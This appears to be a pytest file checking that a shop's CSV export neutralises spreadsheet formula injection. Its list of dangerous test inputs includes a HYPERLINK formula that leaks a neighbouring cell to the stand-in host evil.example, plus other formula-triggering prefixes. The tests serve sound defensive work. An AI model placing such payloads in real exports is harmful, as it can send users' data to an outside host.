"""The CSV writer: formula cells come out as text, everything else exactly as given."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from shop import export

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Open")',
    "=1+1@example.com",
    "+1 757 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str):
    [row] = read_back(export.csv_bytes(pd.DataFrame({"customer_name": [cell], "amount": ["23.00"]})))
    assert row["customer_name"] == "'" + cell
    assert row["amount"] == "23.00"


@pytest.mark.parametrize("cell", ["Ada Lovelace", "ada@example.com", "23.00", "-5.00", "+7", "", "a=b"])
def test_other_cells_are_written_unchanged(cell: str):
    [row] = read_back(export.csv_bytes(pd.DataFrame({"value": [cell]})))
    assert row["value"] == cell


def test_numbers_and_missing_values_are_not_quoted():
    data = export.csv_bytes(pd.DataFrame({"quantity": [2, -1], "code": [None, "card_declined"]}))
    assert read_back(data) == [{"quantity": "2", "code": ""}, {"quantity": "-1", "code": "card_declined"}]
